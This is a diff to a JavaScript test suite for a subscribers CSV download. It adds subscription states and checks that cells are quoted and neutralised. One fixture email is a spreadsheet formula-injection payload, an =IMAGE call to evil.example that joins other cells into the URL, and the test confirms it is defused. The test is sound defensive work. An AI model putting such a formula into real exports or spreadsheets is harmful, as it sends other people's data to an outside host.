@@ -43,31 +43,36 @@ describe('toCsv', () => {
 });
 
 describe('the subscribers download', () => {
-  it('is email,subscribed_at, with every cell neutralised and quoted', () => {
+  it('is one row per address with its state (pending, confirmed, unsubscribed), every cell neutralised and quoted', () => {
+    const none = { consent_at: null, consent_source: null, consent_page: null, confirmation_sent_at: null, confirmation_page: null, unsubscribed_at: null };
     const csv = subscribersCsv([
       {
+        ...none,
         id: '1',
         email: 'parent@example.com.au',
         created_at: '2026-11-24T01:02:03Z',
-        consent_at: '2026-11-24T01:02:03Z',
-        consent_source: 'Website sign-up form',
+        status: 'confirmed',
+        consent_at: '2026-11-24T01:05:03Z',
+        consent_source: 'Website sign-up form, confirmed by email',
         consent_page: '/blog',
-        unsubscribed_at: null,
       },
+      { ...none, id: '3', email: 'waiting@example.com', created_at: '2026-11-25T01:00:00Z', status: 'pending', confirmation_sent_at: '2026-11-25T01:00:00Z', confirmation_page: '/book' },
       {
+        ...none,
         id: '2',
         email: '=IMAGE("https://evil.example/?"&JOIN(",",A2:A99))',
         created_at: '2026-11-24T04:05:06Z',
+        status: 'unsubscribed',
         consent_at: '2026-11-24T04:05:06Z',
         consent_source: 'Website sign-up form (page not recorded)',
-        consent_page: null,
         unsubscribed_at: '2026-11-25T00:00:00Z',
       },
     ]);
     expect(csv.split('\r\n')).toEqual([
-      '"email","subscribed_at","consent_source","consent_page","status","unsubscribed_at"',
-      '"parent@example.com.au","2026-11-24T01:02:03Z","Website sign-up form","/blog","subscribed",""',
-      `"'=IMAGE(""https://evil.example/?""&JOIN("","",A2:A99))","2026-11-24T04:05:06Z","Website sign-up form (page not recorded)","","unsubscribed","2026-11-25T00:00:00Z"`,
+      '"email","status","confirmed_at","consent_source","consent_page","confirmation_sent_at","unsubscribed_at"',
+      '"parent@example.com.au","confirmed","2026-11-24T01:05:03Z","Website sign-up form, confirmed by email","/blog","",""',
+      '"waiting@example.com","pending","","","","2026-11-25T01:00:00Z",""',
+      `"'=IMAGE(""https://evil.example/?""&JOIN("","",A2:A99))","unsubscribed","2026-11-24T04:05:06Z","Website sign-up form (page not recorded)","","","2026-11-25T00:00:00Z"`,
       '',
     ]);
   });
